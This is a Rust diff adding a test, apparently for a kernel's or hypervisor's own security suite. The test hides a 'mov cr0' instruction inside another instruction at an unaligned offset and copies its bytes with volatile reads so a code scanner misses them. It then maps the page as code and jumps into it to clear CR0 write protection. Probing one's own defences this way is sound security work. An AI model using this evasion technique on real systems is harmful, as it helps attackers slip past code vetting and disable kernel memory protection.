@@ -360,3 +360,52 @@ pub fn redirect_ptp_alias() -> Outcome {
         Err(e) => refused(e),
     }
 }
+
+/// The bytes `mov eax, 0xc3c0220f; ret`: read at offset 1 they are
+/// `mov cr0, rax; ret`. Kept in read-only data and copied with volatile
+/// loads, so the attack's own code never holds the sequence (the image
+/// scanner would rightly refuse it).
+static HIDDEN_MOV_CR0: [u8; 6] = [0xb8, 0x0f, 0x22, 0xc0, 0xc3, 0xc3];
+
+/// `map_code` of a page whose innocent first instruction hides `mov cr0`
+/// at an unaligned offset; then a jump to that offset to clear CR0.WP.
+pub fn map_code_hidden_mov_cr0() -> Outcome {
+    let Some(frame) = frames::alloc() else { return NotRun("no frames".into()) };
+    frame.fill(0xcc);
+    let bytes: alloc::vec::Vec<u8> = (0..HIDDEN_MOV_CR0.len()).map(|i| unsafe_read(&HIDDEN_MOV_CR0[i])).collect();
+    frame.write_at(0, &bytes);
+    let mut space = match AddressSpace::new() {
+        Ok(s) => s,
+        Err(e) => return vm(e),
+    };
+    if let Err(e) = space.map_code(VA, frame) {
+        drop(space);
+        let _ = frames::free(frame);
+        return vm(e);
+    }
+    // Accepted: the frame may now be code for good; it is never freed.
+    let cr0 = x86_64::registers::control::Cr0::read_raw();
+    let wp = x86_64::registers::control::Cr0Flags::WRITE_PROTECT.bits();
+    let after = with_space(&space, || {
+        // SAFETY: deliberately unsound: jumps into the middle of an
+        // instruction, where `mov cr0, rax; ret` waits, with WP cleared in rax.
+        unsafe {
+            core::arch::asm!("call {target}", target = in(reg) VA + 1, in("rax") cr0 & !wp, clobber_abi("C"));
+        }
+        x86_64::registers::control::Cr0::read_raw()
+    });
+    let _ = api::set_cr0(cr0);
+    match after {
+        Ok(after) if after & wp == 0 => {
+            Succeeded(format!("vetting let a hidden mov cr0 through; running it at {:#x} cleared CR0.WP", VA + 1))
+        }
+        Ok(after) => Succeeded(format!("a hidden mov cr0 was mapped executable (CR0 now {after:#x})")),
+        Err(e) => vm(e),
+    }
+}
+
+fn unsafe_read(b: &u8) -> u8 {
+    // SAFETY: a reference is valid to read; volatile keeps the compiler
+    // from folding the static's bytes into immediates in this code.
+    unsafe { core::ptr::read_volatile(b) }
+}
